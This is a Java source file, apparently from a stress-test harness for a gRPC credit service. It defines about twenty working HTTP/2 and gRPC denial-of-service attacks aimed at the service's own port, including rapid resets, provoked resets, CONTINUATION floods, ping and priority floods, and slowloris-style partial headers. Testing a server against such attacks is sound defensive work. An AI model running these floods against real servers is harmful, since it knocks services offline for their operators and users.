package org.creditservice.attack;

import com.google.protobuf.MessageLite;
import io.grpc.health.v1.HealthCheckRequest;
import io.grpc.reflection.v1.ServerReflectionRequest;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Consumer;
import org.creditservice.v1.ListEntriesRequest;
import org.creditservice.v1.WatchEntriesRequest;

/** The attacks, each as a stranger without a certificate would make it. */
enum Attack {
  HEALTH_WATCHES(Attack::healthWatches),
  IDLE_STREAMS(siege -> idleStreams(siege, Attack.DEDUCT, 200)),
  IDLE_STREAMS_OF_AN_UNKNOWN_METHOD(siege -> idleStreams(siege, "no.such.Service/Method", 100)),
  UNREAD_REFLECTION(Attack::unreadReflection),
  UNREAD_PAGES(Attack::unreadPages),
  WATCHES(Attack::watches),
  BAD_TIMEOUTS(siege -> calls(siege, "grpc-timeout", "soon")),
  LARGE_HEADERS(siege -> calls(siege, "x-large", "x".repeat(9 * 1024))),
  PROVOKED_RESETS(Attack::provokedResets),
  PING_ACKS(siege -> floodOf(siege, Frames.frame(Frames.PING, Frames.ACK, 0, new byte[8]))),
  PRIORITIES(siege -> floodOf(siege, Frames.priority(1))),
  EMPTY_DATA(Attack::emptyData),
  GARBAGE(siege -> bytes(siege, "\u0000\u0001garbage\r\n\r\n".repeat(20))),
  TLS_BYTES(
      siege -> bytes(siege, "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003")),
  HTTP_1(siege -> bytes(siege, "GET / HTTP/1.1\r\nhost: x\r\n\r\n")),
  RESIZED_WINDOWS(Attack::resizedWindows),
  SILENT_CONNECTIONS(
      siege -> siege.strike(2000, () -> HostileConnection.open(siege.port), Attack::nothing)),
  HALF_PREFACES(siege -> siege.strike(2000, () -> halfPreface(siege.port), Attack::nothing)),
  SLOW_BYTES(Attack::slowBytes),
  RAPID_RESETS(Attack::rapidResets),
  CONTINUATIONS(Attack::continuations);

  private static final String DEDUCT = "credit.v1.CreditService/DeductCredits";
  private static final String LIST_ENTRIES = "credit.v1.CreditQueryService/ListEntries";
  private static final String WATCH_ENTRIES = "credit.v1.CreditQueryService/WatchEntries";
  private static final String WATCH_HEALTH = "grpc.health.v1.Health/Watch";
  private static final String REFLECTION =
      "grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

  /** The profile whose pages and entries are asked for. It has a thousand large entries. */
  static final String PROFILE = "attacked";

  private static final int LARGE_WINDOW = 1 << 20;
  private static final AtomicLong NAMES = new AtomicLong();

  @SuppressWarnings("ImmutableEnumChecker") // Method references without state.
  private final Consumer<Siege> run;

  Attack(Consumer<Siege> run) {
    this.run = run;
  }

  void run(Siege siege) {
    run.accept(siege);
  }

  private static void nothing(HostileConnection connection) {
    connection.drain();
  }

  private static void healthWatches(Siege siege) {
    byte[] block = Frames.headerBlock(WATCH_HEALTH);
    siege.strike(
        39,
        () -> HostileConnection.connect(siege.port, LARGE_WINDOW),
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 20; i++) {
            int id = connection.nextStreamId();
            String name = NAMES.incrementAndGet() + "x".repeat(4000);
            bytes.writeBytes(Frames.headers(id, block));
            bytes.writeBytes(
                Frames.lastMessage(id, HealthCheckRequest.newBuilder().setService(name).build()));
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static void idleStreams(Siege siege, String method, int connections) {
    byte[] block = Frames.headerBlock(method);
    siege.strike(
        connections,
        () -> HostileConnection.connect(siege.port, LARGE_WINDOW),
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 50; i++) {
            bytes.writeBytes(Frames.headers(connection.nextStreamId(), block));
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static void unreadReflection(Siege siege) {
    byte[] block = Frames.headerBlock(REFLECTION);
    ServerReflectionRequest request =
        ServerReflectionRequest.newBuilder()
            .setFileContainingSymbol("credit.v1.CreditService")
            .build();
    siege.strike(
        20,
        () -> HostileConnection.connect(siege.port, 0),
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 20; i++) {
            int id = connection.nextStreamId();
            bytes.writeBytes(Frames.headers(id, block));
            for (int j = 0; j < 5; j++) {
              bytes.writeBytes(Frames.message(id, request));
            }
          }
          connection.send(bytes.toByteArray());
        });
  }

  private static void unreadPages(Siege siege) {
    ListEntriesRequest page =
        ListEntriesRequest.newBuilder().setProfileId(PROFILE).setPageSize(1000).build();
    siege.strike(
        10,
        () -> HostileConnection.connect(siege.port, 0),
        connection -> connection.send(wholeCalls(connection, LIST_ENTRIES, page, 10)));
  }

  private static void watches(Siege siege) {
    WatchEntriesRequest watch =
        WatchEntriesRequest.newBuilder().setProfileId(PROFILE).setAfterSequence(1000).build();
    siege.strike(
        12,
        () -> HostileConnection.connect(siege.port, LARGE_WINDOW),
        connection -> {
          connection.send(wholeCalls(connection, WATCH_ENTRIES, watch, 10));
          connection.drain();
        });
  }

  /** Whole calls with one header more. */
  private static void calls(Siege siege, String header, String value) {
    byte[] block = Frames.headerBlock(DEDUCT, header, value);
    byte[] message = new byte[0];
    siege.strike(
        4,
        () -> HostileConnection.connect(siege.port, LARGE_WINDOW),
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 20; i++) {
            int id = connection.nextStreamId();
            bytes.writeBytes(Frames.headers(id, block));
            bytes.writeBytes(Frames.frame(Frames.DATA, Frames.END_STREAM, id, message));
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  /** "MadeYouReset": the server itself resets what a bad frame belongs to. */
  private static void provokedResets(Siege siege) {
    byte[] block = Frames.headerBlock(DEDUCT);
    siege.strike(
        4,
        () -> HostileConnection.connect(siege.port, LARGE_WINDOW),
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 50; i++) {
            int id = connection.nextStreamId();
            bytes.writeBytes(Frames.headers(id, block));
            bytes.writeBytes(Frames.windowUpdate(id, 0));
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static void floodOf(Siege siege, byte[] frame) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    for (int i = 0; i < 1000; i++) {
      bytes.writeBytes(frame);
    }
    siege.strike(
        4,
        () -> HostileConnection.connect(siege.port, LARGE_WINDOW),
        connection -> {
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static void emptyData(Siege siege) {
    byte[] block = Frames.headerBlock(DEDUCT);
    siege.strike(
        4,
        () -> {
          HostileConnection connection = HostileConnection.connect(siege.port, LARGE_WINDOW);
          connection.send(Frames.headers(1, block));
          return connection;
        },
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 1000; i++) {
            bytes.writeBytes(Frames.frame(Frames.DATA, 0, 1, new byte[0]));
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static void bytes(Siege siege, String text) {
    byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
    siege.strike(
        4,
        () -> HostileConnection.open(siege.port),
        connection -> {
          connection.send(bytes);
          connection.drain();
        });
  }

  private static void resizedWindows(Siege siege) {
    byte[] block = Frames.headerBlock(DEDUCT);
    siege.strike(
        4,
        () -> {
          HostileConnection connection = HostileConnection.connect(siege.port, LARGE_WINDOW);
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 1000; i++) {
            bytes.writeBytes(Frames.headers(connection.nextStreamId(), block));
          }
          connection.send(bytes.toByteArray());
          return connection;
        },
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 200; i++) {
            bytes.writeBytes(Frames.settings(1000 + i));
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static HostileConnection halfPreface(int port) throws java.io.IOException {
    HostileConnection connection = HostileConnection.open(port);
    connection.send("PRI * HTT".getBytes(StandardCharsets.US_ASCII));
    return connection;
  }

  /** The headers of a call, of which nearly nothing arrives. */
  private static void slowBytes(Siege siege) {
    byte[] headers = Frames.headers(1, Frames.headerBlock(DEDUCT));
    siege.strike(
        500,
        () -> {
          HostileConnection connection = HostileConnection.connect(siege.port, LARGE_WINDOW);
          connection.send(Arrays.copyOf(headers, headers.length - 20));
          return connection;
        },
        connection -> {
          connection.drain();
          if (NAMES.incrementAndGet() % 1000 == 0) {
            connection.send(new byte[] {'x'});
          }
        });
  }

  private static void rapidResets(Siege siege) {
    byte[] block = Frames.headerBlock(DEDUCT);
    siege.strike(
        4,
        () -> HostileConnection.connect(siege.port, LARGE_WINDOW),
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 20; i++) {
            int id = connection.nextStreamId();
            bytes.writeBytes(Frames.headers(id, block));
            bytes.writeBytes(Frames.reset(id));
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static void continuations(Siege siege) {
    byte[] fragment = Frames.frame(Frames.CONTINUATION, 0, 1, new byte[0]);
    byte[] begin = Frames.frame(Frames.HEADERS, 0, 1, Frames.headerBlock(DEDUCT));
    siege.strike(
        4,
        () -> {
          HostileConnection connection = HostileConnection.connect(siege.port, LARGE_WINDOW);
          connection.send(begin);
          return connection;
        },
        connection -> {
          ByteArrayOutputStream bytes = new ByteArrayOutputStream();
          for (int i = 0; i < 500; i++) {
            bytes.writeBytes(fragment);
          }
          connection.send(bytes.toByteArray());
          connection.drain();
        });
  }

  private static byte[] wholeCalls(
      HostileConnection connection, String method, MessageLite request, int count) {
    byte[] block = Frames.headerBlock(method);
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    for (int i = 0; i < count; i++) {
      int id = connection.nextStreamId();
      bytes.writeBytes(Frames.headers(id, block));
      bytes.writeBytes(Frames.lastMessage(id, request));
    }
    return bytes.toByteArray();
  }
}
